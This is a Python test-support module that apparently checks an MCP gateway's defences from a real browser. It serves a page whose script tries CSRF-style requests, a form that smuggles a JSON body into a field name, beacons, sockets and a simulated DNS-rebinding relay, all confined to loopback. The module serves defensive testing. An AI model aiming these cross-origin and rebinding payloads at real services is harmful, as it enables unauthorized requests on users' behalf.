"""Pages that attack the gateway from a real browser, and what serves them."""

from __future__ import annotations

import json
import os
import signal
import socket
import subprocess
import threading
from collections.abc import Iterator
from contextlib import contextmanager, suppress
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any, Final

from tests.support.programs import require_program

REPORT_S: Final = 90.0
_PAGE: Final = """<!doctype html><meta charset="utf-8"><title>an attack</title><body><script>
const {target, report, authorization, body} = ORDER;
const json = {"content-type": "application/json", "accept": "application/json, text/event-stream"};
const told = async answer => ({status: answer.status, type: answer.type, text: await answer.text()});
const asked = (path, how) => fetch(target + path, how).then(told);
const opened = thing => new Promise((good, bad) => {
  thing.onopen = thing.onload = () => good({status: 200}); thing.onerror = bad;
});
const added = thing => { const waits = opened(thing); document.body.append(thing); return waits; };
const ways = {
  "with a grant": path => asked(path, {method: "POST", headers: {...json, authorization}, body}),
  "without a grant": path => asked(path, {method: "POST", headers: json, body}),
  "with credentials": path => asked(path, {method: "POST", credentials: "include", headers: {...json, authorization}, body}),
  "of a simple type": path => asked(path, {method: "POST", headers: {"content-type": "text/plain"}, body}),
  "without looking": path => asked(path, {method: "POST", mode: "no-cors", credentials: "include", body}),
  "a beacon": async path => ({status: navigator.sendBeacon(target + path, body) ? 0 : -1}),
  "the end of a session": path => asked(path, {method: "DELETE", headers: {authorization, "mcp-session-id": "x"}}),
  "a look": path => asked(path, {headers: {authorization}}),
  "a look at health": () => asked("/readyz", {}),
  "events": path => opened(new EventSource(target + path)),
  "a socket": path => opened(new WebSocket(target.replace("http", "ws") + path)),
  "a script": path => added(Object.assign(document.createElement("script"), {src: target + path})),
  "a form": path => {
    const frame = Object.assign(document.createElement("iframe"), {name: "answer"});
    const form = Object.assign(document.createElement("form"), {method: "post", action: target + path, target: "answer"});
    form.enctype = "text/plain";
    form.append(Object.assign(document.createElement("input"), {name: body.slice(0, -1) + ',"x":"', value: '"}'}));
    document.body.append(form);
    const waits = added(frame);
    form.submit();
    return waits.then(() => ({status: 0}));
  },
};
(async () => {
  const seen = {};
  for (const [name, way] of Object.entries(ways)) {
    try { seen[name] = await way("/mcp/recorder"); } catch (error) { seen[name] = {blocked: String(error)}; }
  }
  await fetch(report, {method: "POST", mode: "no-cors", body: JSON.stringify(seen)});
})();
</script>"""


@dataclass
class Pages:
    """A server of pages that attack `target` and report; it answers every origin, so that an attack on itself succeeds."""

    port: int = 0
    target: str = ""
    authorization: str = ""
    body: str = ""
    seen: dict[str, Any] = field(default_factory=dict)
    """What the page's script came to, by the way it tried."""
    reported: threading.Event = field(default_factory=threading.Event)
    reached: list[str] = field(default_factory=list)
    """Requests for what is attacked, by method, if they came here."""

    def html(self) -> bytes:
        order = {
            "target": self.target,
            "report": f"http://127.0.0.1:{self.port}/report",
            "authorization": self.authorization,
            "body": self.body,
        }
        return _PAGE.replace("ORDER", json.dumps(order)).encode()


@contextmanager
def pages() -> Iterator[Pages]:
    """Running on a free port of loopback."""
    served = Pages()

    class Handler(BaseHTTPRequestHandler):
        def handle_one(self) -> None:
            data = self.rfile.read(int(self.headers.get("content-length", "0")))
            if self.path == "/report":
                served.seen = json.loads(data)
                served.reported.set()
            elif self.path != "/page":
                served.reached.append(self.command)
            self.send_response(200)
            self.send_header("content-type", "text/html" if self.path == "/page" else "application/json")
            origin = self.headers.get("origin")
            if origin:
                self.send_header("access-control-allow-origin", origin)
                self.send_header("access-control-allow-credentials", "true")
                self.send_header("access-control-allow-methods", "POST, DELETE, GET")
                self.send_header("access-control-allow-headers", "authorization, content-type, mcp-session-id")
            self.end_headers()
            self.wfile.write(served.html() if self.path == "/page" else b"{}")

        do_GET = do_POST = do_DELETE = do_OPTIONS = handle_one  # noqa: N815 - the names that the library looks for

        def log_message(self, *_: object) -> None:
            """Say nothing."""

    with ThreadingHTTPServer(("127.0.0.1", 0), Handler) as server:
        served.port = server.server_address[1]
        threading.Thread(target=server.serve_forever, daemon=True, name="pages").start()
        yield served
        server.shutdown()


@contextmanager
def rebound(served: Pages, gate: int) -> Iterator[int]:
    """A port that gives out the page, and else leads to the gateway: what a name that is bound anew comes to."""

    def serve(wire: socket.socket) -> None:
        with wire, suppress(OSError):
            began = wire.recv(65_536)
            if began.startswith(b"GET /page "):
                page = served.html()
                wire.sendall(b"HTTP/1.1 200 OK\r\ncontent-type: text/html\r\nconnection: close\r\n")
                wire.sendall(b"content-length: %d\r\n\r\n%b" % (len(page), page))
                return
            with socket.create_connection(("127.0.0.1", gate)) as behind:
                threading.Thread(target=_pour, args=(behind, wire), daemon=True, name="back").start()
                behind.sendall(began)
                _pour(wire, behind)

    def accept(listener: socket.socket) -> None:
        with suppress(OSError):
            while True:
                wire, _ = listener.accept()
                threading.Thread(target=serve, args=(wire,), daemon=True, name="rebound").start()

    with socket.create_server(("127.0.0.1", 0)) as listener:
        threading.Thread(target=accept, args=(listener,), daemon=True, name="binding").start()
        yield listener.getsockname()[1]
        listener.shutdown(socket.SHUT_RDWR)


def _pour(source: socket.socket, sink: socket.socket) -> None:
    with suppress(OSError):
        while piece := source.recv(65_536):
            sink.sendall(piece)
        sink.shutdown(socket.SHUT_WR)


def visit(url: str, served: Pages, folder: Path) -> dict[str, Any]:
    """Open the page in Chromium and wait for its report. Names that end in `.example` are this machine, others are nowhere."""
    rules = "MAP *.example 127.0.0.1, MAP * ~NOTFOUND, EXCLUDE 127.0.0.1"
    options = ["--headless=new", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage", "--no-first-run"]
    options += ["--disable-background-networking", "--disable-component-update", "--no-proxy-server", "--disable-extensions"]
    options += [f"--user-data-dir={folder / 'profile'}", f"--host-resolver-rules={rules}"]
    command = [str(require_program("chromium")), *options, url]
    served.reported.clear()
    log = folder / "chromium.log"
    with log.open("wb") as errors, subprocess.Popen(command, stdout=errors, stderr=errors, start_new_session=True) as process:
        try:
            assert served.reported.wait(REPORT_S), log.read_text(encoding="utf-8", errors="replace")
        finally:
            with suppress(ProcessLookupError):
                os.killpg(process.pid, signal.SIGKILL)
    return served.seen
